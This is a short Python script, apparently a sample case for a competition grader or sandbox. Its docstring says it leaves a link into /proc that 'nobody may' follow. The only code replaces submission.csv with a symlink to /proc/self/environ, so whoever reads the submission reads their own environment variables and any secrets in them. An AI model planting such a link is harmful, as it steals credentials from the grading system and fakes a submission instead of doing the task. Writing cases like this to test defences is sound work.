"""Leaves a link into /proc as its table, which means another file to whoever follows it; nobody may."""

import os

os.symlink("/proc/self/environ", "/kaggle/working/submission.csv")
